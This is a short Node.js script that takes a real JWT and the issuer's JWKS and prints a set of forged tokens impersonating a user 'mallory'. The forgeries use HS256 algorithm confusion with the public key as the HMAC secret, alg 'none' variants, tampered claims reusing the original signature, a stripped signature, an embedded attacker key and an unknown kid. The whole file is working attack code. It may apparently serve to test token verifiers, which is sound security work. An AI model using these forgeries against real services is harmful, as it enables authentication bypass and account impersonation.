// Prints what attackers make of an assertion and the public keys, one token a line: its name, a blank
// and the token.

import { createHmac, createPublicKey } from 'node:crypto';

const { TOKEN, JWKS_URL } = process.env;
const [header, payload, signature] = TOKEN.split('.');
const { kid } = JSON.parse(Buffer.from(header, 'base64url'));
const { keys } = await (await fetch(JWKS_URL)).json();
const jwk = keys.find((key) => key.kid === kid);
const encoded = (value) => Buffer.from(JSON.stringify(value)).toString('base64url');
const claims = JSON.parse(Buffer.from(payload, 'base64url'));
const mallory = encoded({ ...claims, sub: 'mallory', email: 'mallory@example.com' });

const key = createPublicKey({ key: jwk, format: 'jwk' });
const secrets = {
  pem: key.export({ type: 'spki', format: 'pem' }),
  der: key.export({ type: 'spki', format: 'der' }),
  jwk: JSON.stringify(jwk),
  x: Buffer.from(jwk.x, 'base64url'),
};
const tokens = Object.entries(secrets).map(([name, secret]) => {
  const signed = `${encoded({ alg: 'HS256', kid, typ: 'JWT' })}.${mallory}`;
  const mac = createHmac('sha256', secret).update(signed).digest('base64url');
  return [`hs256-${name}`, `${signed}.${mac}`];
});
tokens.push(
  ['none', `${encoded({ alg: 'none', kid, typ: 'JWT' })}.${mallory}.`],
  ['none-signed', `${encoded({ alg: 'None', kid })}.${mallory}.${signature}`],
  ['other-claims', `${header}.${mallory}.${signature}`],
  ['no-signature', `${header}.${payload}.`],
  ['own-key', `${encoded({ alg: jwk.alg, kid, jwk })}.${mallory}.${signature}`],
  ['unknown-key', `${encoded({ alg: jwk.alg, kid: 'x' })}.${payload}.${signature}`],
);
for (const [name, token] of tokens) console.log(name, token);
